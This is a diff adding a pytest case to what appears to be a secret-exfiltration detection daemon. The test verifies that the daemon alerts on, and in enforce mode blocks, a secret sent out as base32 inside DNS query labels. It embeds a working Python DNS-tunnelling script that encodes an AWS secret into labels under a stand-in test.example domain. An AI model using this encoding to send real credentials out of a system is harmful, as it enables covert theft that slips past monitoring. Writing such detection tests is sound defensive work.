@@ -175,3 +175,43 @@ def test_canaries_in_every_field_a_build_controls_are_in_no_file_the_daemon_writ
 
 
 CANARY_NAME = "AWS_SECRET_ACCESS_KEY"
+
+
+DNS_QUERY = r"""
+import base64, socket, struct, sys
+host, secret = sys.argv[1], sys.argv[2]
+encoded = base64.b32encode(b"x" + secret.encode()).decode().lower().rstrip("=")
+labels = [encoded[i:i + 40] for i in range(0, len(encoded), 40)] + ["q", "test", "example"]
+query = struct.pack("!HHHHHH", 9, 0x100, 1, 0, 0, 0) + b"".join(
+    bytes([len(p)]) + p.encode() for p in labels) + b"\0\0\1\0\1"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(query, (host, 53))
+print(s.recv(512)[3] & 0x0F)  # the rcode
+"""
+
+
+@pytest.mark.parametrize("mode", ["audit", "enforce"])
+def test_a_secret_value_split_over_dns_labels_is_named_and_not_sent_in_enforce(
+        daemon: DaemonHandle, test_host: TestHost, mode: str) -> None:
+    dns_log = test_host.start_dns()
+    daemon.restart("--dns-upstream", test_host.v4,
+                   policy=f"version: 1\nmode: {mode}\nrules:\n  - {{id: zone, role: other, "
+                   "to: [{hosts: ['*.test.example']}], action: allow}\n")
+    env = {**env_with_cargo(), "AWS_SECRET_ACCESS_KEY": SECRET}
+    rcode = subprocess.run(daemon.exec_argv(sys.executable, "-c", DNS_QUERY, test_host.v4,
+                                            SECRET), env=env, capture_output=True, text=True,
+                           timeout=60, check=True).stdout.strip()
+    alert = daemon.wait_event("the secret_value alert", lambda e: e["type"] == "alert"
+                              and e["kind"] == "secret_value")
+    assert alert["evidence"]["secret_names"] == ["AWS_SECRET_ACCESS_KEY"]
+    assert alert["evidence"]["encodings"] == ["base32"]
+    assert alert["evidence"]["protocol"] == "dns"
+    assert alert["blocked"] is (mode == "enforce")
+    upstream_saw = ".q.test.example" in dns_log.read_text()
+    # enforce: NXDOMAIN from the daemon, never forwarded; audit: forwarded, and the test
+    # host's dnsmasq (which serves no such name) refuses it
+    assert (rcode, upstream_saw) == (("3", False) if mode == "enforce" else ("5", True))
+    assert daemon.stop() == 0
+    for path in written_files(daemon):
+        assert SECRET.lower() not in path.read_text(errors="replace").lower(), path
